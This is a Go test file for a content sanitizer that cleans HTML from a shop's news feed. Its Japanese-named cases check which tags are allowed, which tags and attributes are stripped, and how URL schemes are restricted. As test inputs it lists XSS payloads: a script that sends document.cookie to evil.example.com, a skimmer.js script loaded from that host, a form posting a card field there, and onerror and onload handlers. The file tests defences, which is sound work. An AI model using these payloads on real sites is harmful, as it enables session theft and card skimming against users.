package security

import (
	"strings"
	"testing"
)

// TestSanitize_AllowedTags はショップニュース記事で使われる許可タグが通過することを検証する。
func TestSanitize_AllowedTags(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name  string
		input string
		// want に含まれるべき部分文字列
		wantContains []string
	}{
		{
			name:         "pタグが許可される",
			input:        "<p>秋の新作コレクションが入荷しました。</p>",
			wantContains: []string{"<p>秋の新作コレクションが入荷しました。</p>"},
		},
		{
			name:         "brタグが許可される",
			input:        "営業時間のお知らせ<br>平日 10:00-19:00",
			wantContains: []string{"<br>", "営業時間のお知らせ", "平日 10:00-19:00"},
		},
		{
			name:         "aタグが許可される",
			input:        `<a href="https://shop.example.com/products/tee-01">新作Tシャツはこちら</a>`,
			wantContains: []string{"<a", "href", "https://shop.example.com/products/tee-01", "新作Tシャツはこちら", "</a>"},
		},
		{
			name:         "ulタグとliタグが許可される",
			input:        "<ul><li>送料無料キャンペーン</li><li>ポイント2倍</li></ul>",
			wantContains: []string{"<ul>", "<li>", "送料無料キャンペーン", "ポイント2倍", "</li>", "</ul>"},
		},
		{
			name:         "olタグとliタグが許可される",
			input:        "<ol><li>カートに追加</li><li>お届け先を入力</li></ol>",
			wantContains: []string{"<ol>", "<li>", "カートに追加", "お届け先を入力", "</li>", "</ol>"},
		},
		{
			name:         "blockquoteタグが許可される",
			input:        "<blockquote>お客様の声: 生地がとても柔らかいです</blockquote>",
			wantContains: []string{"<blockquote>お客様の声: 生地がとても柔らかいです</blockquote>"},
		},
		{
			name:         "preタグとcodeタグが許可される",
			input:        "<pre><code>クーポンコード: AUTUMN2026</code></pre>",
			wantContains: []string{"<pre>", "<code>", "クーポンコード: AUTUMN2026", "</code>", "</pre>"},
		},
		{
			name:         "strongタグとemタグが許可される",
			input:        "<strong>本日限定</strong> <em>全品10%オフ</em>",
			wantContains: []string{"<strong>本日限定</strong>", "<em>全品10%オフ</em>"},
		},
		{
			name:         "imgタグがhttps srcで許可される",
			input:        `<img src="https://cdn.shop.example.com/news/autumn-banner.png" alt="秋物バナー">`,
			wantContains: []string{"<img", "src", "https://cdn.shop.example.com/news/autumn-banner.png", "秋物バナー"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			for _, want := range tt.wantContains {
				if !strings.Contains(got, want) {
					t.Errorf("Sanitize(%q) = %q, expected to contain %q", tt.input, got, want)
				}
			}
		})
	}
}

// TestSanitize_ForbiddenTags はフィード由来の危険なタグが除去されることを検証する。
func TestSanitize_ForbiddenTags(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name         string
		input        string
		wantAbsent   []string
		wantContains []string
	}{
		{
			name:         "scriptタグが除去される",
			input:        `<p>セール開催中</p><script>document.cookie</script><p>お見逃しなく</p>`,
			wantAbsent:   []string{"<script", "</script>", "document.cookie"},
			wantContains: []string{"セール開催中", "お見逃しなく"},
		},
		{
			name:         "iframeタグが除去される",
			input:        `<p>店舗案内</p><iframe src="https://evil.example.com/track"></iframe>`,
			wantAbsent:   []string{"<iframe", "</iframe>", "evil.example.com"},
			wantContains: []string{"店舗案内"},
		},
		{
			name:         "styleタグが除去される",
			input:        `<p>入荷情報</p><style>body{display:none}</style>`,
			wantAbsent:   []string{"<style", "</style>", "display:none"},
			wantContains: []string{"入荷情報"},
		},
		{
			name:         "許可されていないタグ（div）が除去される",
			input:        `<div class="promo"><p>会員限定セール</p></div>`,
			wantAbsent:   []string{"<div", "</div>", "promo"},
			wantContains: []string{"<p>会員限定セール</p>"},
		},
		{
			name:         "formタグと入力要素が除去される",
			input:        `<p>アンケート</p><form action="https://evil.example.com"><input name="card"></form>`,
			wantAbsent:   []string{"<form", "<input", "card"},
			wantContains: []string{"アンケート"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			for _, absent := range tt.wantAbsent {
				if strings.Contains(got, absent) {
					t.Errorf("Sanitize(%q) = %q, expected NOT to contain %q", tt.input, got, absent)
				}
			}
			for _, want := range tt.wantContains {
				if !strings.Contains(got, want) {
					t.Errorf("Sanitize(%q) = %q, expected to contain %q", tt.input, got, want)
				}
			}
		})
	}
}

// TestSanitize_OnEventAttributes はon*イベント属性が除去されることを検証する。
func TestSanitize_OnEventAttributes(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name  string
		input string
	}{
		{
			name:  "onclick属性が除去される",
			input: `<p onclick="alert('xss')">タイムセール開始</p>`,
		},
		{
			name:  "onerror属性が除去される",
			input: `<img src="https://cdn.shop.example.com/x.png" onerror="alert('xss')">`,
		},
		{
			name:  "onmouseover属性が除去される",
			input: `<a href="https://shop.example.com/sale" onmouseover="alert('xss')">セール会場</a>`,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			if strings.Contains(got, "alert") || strings.Contains(strings.ToLower(got), "onclick") ||
				strings.Contains(strings.ToLower(got), "onerror") || strings.Contains(strings.ToLower(got), "onmouseover") {
				t.Errorf("Sanitize(%q) = %q, event attribute must be removed", tt.input, got)
			}
		})
	}
}

// TestSanitize_ImgHTTPSOnly はimgのsrcがhttpsスキームのみ許可されることを検証する。
func TestSanitize_ImgHTTPSOnly(t *testing.T) {
	sanitizer := NewContentSanitizer()

	tests := []struct {
		name       string
		input      string
		wantAbsent string
	}{
		{
			name:       "httpスキームのsrcは除去される",
			input:      `<img src="http://cdn.shop.example.com/banner.png">`,
			wantAbsent: "http://cdn.shop.example.com/banner.png",
		},
		{
			name:       "javascriptスキームのsrcは除去される",
			input:      `<img src="javascript:alert('xss')">`,
			wantAbsent: "javascript",
		},
		{
			name:       "dataスキームのsrcは除去される",
			input:      `<img src="data:image/png;base64,AAAA">`,
			wantAbsent: "data:",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := sanitizer.Sanitize(tt.input)
			if strings.Contains(got, tt.wantAbsent) {
				t.Errorf("Sanitize(%q) = %q, expected NOT to contain %q", tt.input, got, tt.wantAbsent)
			}
		})
	}

	// httpsスキームは許可される
	safe := sanitizer.Sanitize(`<img src="https://cdn.shop.example.com/banner.png">`)
	if !strings.Contains(safe, "https://cdn.shop.example.com/banner.png") {
		t.Errorf("https src must be preserved, got %q", safe)
	}
}

// TestSanitize_AnchorAttributes はリンクにtarget=_blankとrel=noopenerが付与されることを検証する。
func TestSanitize_AnchorAttributes(t *testing.T) {
	sanitizer := NewContentSanitizer()

	got := sanitizer.Sanitize(`<a href="https://shop.example.com/blog/2026-autumn">コーディネート特集</a>`)

	if !strings.Contains(got, `target="_blank"`) {
		t.Errorf("expected target=_blank to be added, got %q", got)
	}
	if !strings.Contains(got, "noopener") || !strings.Contains(got, "noreferrer") {
		t.Errorf("expected rel noopener noreferrer, got %q", got)
	}
}

// TestSanitize_EmptyInput は空文字列入力に空文字列を返すことを検証する。
func TestSanitize_EmptyInput(t *testing.T) {
	sanitizer := NewContentSanitizer()

	if got := sanitizer.Sanitize(""); got != "" {
		t.Errorf("Sanitize(\"\") = %q, want \"\"", got)
	}
}

// TestSanitize_PlainText はタグを含まない記事要約がそのまま通過することを検証する。
func TestSanitize_PlainText(t *testing.T) {
	sanitizer := NewContentSanitizer()

	input := "冬物アウターの予約受付を開始しました。"
	if got := sanitizer.Sanitize(input); got != input {
		t.Errorf("Sanitize(%q) = %q, want unchanged", input, got)
	}
}

// TestSanitize_Idempotent は同一入力に対して常に同一出力を返すことを検証する。
func TestSanitize_Idempotent(t *testing.T) {
	sanitizer := NewContentSanitizer()

	input := `<p><strong>年末セール</strong>のお知らせ</p><script>alert(1)</script><a href="https://shop.example.com/sale">詳細</a>`
	first := sanitizer.Sanitize(input)
	second := sanitizer.Sanitize(first)

	if first != second {
		t.Errorf("sanitize must be idempotent:\n first = %q\nsecond = %q", first, second)
	}
}

// TestSanitize_ArticleHTML はフィード記事全体のHTMLが安全に変換されることを検証する。
func TestSanitize_ArticleHTML(t *testing.T) {
	sanitizer := NewContentSanitizer()

	input := `
<div class="article">
<p>いつもご利用ありがとうございます。<strong>10月1日</strong>より秋冬コレクションの販売を開始します。</p>
<img src="https://cdn.shop.example.com/news/aw-collection.jpg" alt="秋冬コレクション" onerror="steal()">
<ul>
<li>ウールコート 各色</li>
<li>カシミヤマフラー</li>
</ul>
<p>詳しくは<a href="https://shop.example.com/blog/aw-2026">特集ページ</a>をご覧ください。</p>
<script src="https://evil.example.com/skimmer.js"></script>
</div>`

	got := sanitizer.Sanitize(input)

	for _, want := range []string{
		"秋冬コレクションの販売を開始します",
		"<strong>10月1日</strong>",
		"https://cdn.shop.example.com/news/aw-collection.jpg",
		"ウールコート 各色",
		"https://shop.example.com/blog/aw-2026",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("expected output to contain %q, got %q", want, got)
		}
	}
	for _, absent := range []string{"<div", "<script", "skimmer", "onerror", "steal"} {
		if strings.Contains(got, absent) {
			t.Errorf("expected output NOT to contain %q, got %q", absent, got)
		}
	}
}

// TestSanitize_XSSPayloads は代表的なXSSペイロードが無害化されることを検証する。
func TestSanitize_XSSPayloads(t *testing.T) {
	sanitizer := NewContentSanitizer()

	payloads := []string{
		`<script>fetch('https://evil.example.com?c='+document.cookie)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`,
		`<a href="javascript:alert(1)">今すぐ購入</a>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<body onload=alert(1)>`,
	}

	for _, payload := range payloads {
		t.Run(payload, func(t *testing.T) {
			got := sanitizer.Sanitize(payload)
			lower := strings.ToLower(got)
			if strings.Contains(lower, "script") || strings.Contains(lower, "javascript:") ||
				strings.Contains(lower, "onerror") || strings.Contains(lower, "onload") {
				t.Errorf("Sanitize(%q) = %q, payload not neutralized", payload, got)
			}
		})
	}
}

// TestContentSanitizerInterface は実装がインターフェースを満たすことを検証する。
func TestContentSanitizerInterface(t *testing.T) {
	var _ ContentSanitizerService = NewContentSanitizer()
}
